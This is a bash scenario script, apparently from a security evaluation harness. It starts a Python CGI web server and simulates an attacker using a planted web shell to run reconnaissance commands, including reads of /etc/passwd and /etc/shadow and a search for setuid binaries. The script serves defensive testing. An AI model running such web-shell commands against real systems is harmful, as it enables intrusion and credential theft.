# shellcheck shell=bash
# web_shell: the web workload; then an attacker in the peer namespace drives
# a planted CGI web shell (upload.py) that runs sh -c COMMAND as the server's
# user: reconnaissance commands, one per second.
. "$EVAL_DIR/workloads/web.sh"
SC_IDX=1
SC_DESC="python3 http.server (CGI) under 4 load modes; attack: planted web shell spawning sh -c recon commands"
SC_TOOLS="python3-http.server curl sh id uname cat ls ps find"
SC_ATTACKER="upload.py sh id uname cat ls ps find"


web_shell_attacker() {
	local end=$1 c i=0
	for c in id "uname -a" "cat /etc/passwd" "ls -la /tmp /home" "ps aux" \
		"cat /etc/shadow" "find / -maxdepth 2 -perm -4000" "ls -la /root" \
		"cat /proc/version" id "cat /etc/passwd" "ps aux"; do
		within "$end" 20 "$i" || break
		curl -s -o /dev/null --max-time 5 -G \
			--data-urlencode "c=$c" "http://$HOST_IP:8080/cgi-bin/upload.py"
		i=$((i + 1))
		sleep 1
	done
}
sc_attack() { peer_fn web_shell_attacker "$1"; }
